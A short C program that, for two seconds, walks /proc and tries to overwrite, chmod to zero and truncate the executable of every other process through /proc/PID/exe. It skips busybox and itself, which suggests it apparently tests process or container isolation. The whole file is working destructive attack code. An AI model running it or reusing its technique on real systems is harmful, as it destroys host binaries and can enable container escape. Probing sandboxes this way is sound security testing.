/* Tries to change the programs of all other processes through their /proc/PID/exe, for two seconds. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void attack(const char *pid) {
  char path[64], target[256], again[64];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  ssize_t length = readlink(path, target, sizeof target - 1);
  if (length < 0) return;
  target[length] = 0;
  if (strstr(target, "busybox") || strstr(target, "overwrite")) return;
  printf("found %s\n", target);
  int fd = open(path, O_PATH);
  if (fd < 0) return;
  snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
  for (int i = 0; i < 100; i++) {
    int writable = open(again, O_WRONLY);
    if (writable < 0) continue;
    if (write(writable, "x", 1) == 1) printf("written\n");
    close(writable);
  }
  chmod(again, 0);
  truncate(again, 0);
  close(fd);
}

int main(void) {
  for (time_t end = time(NULL) + 2; time(NULL) < end;) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc));)
      if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9') attack(entry->d_name);
    closedir(proc);
  }
  return 0;
}
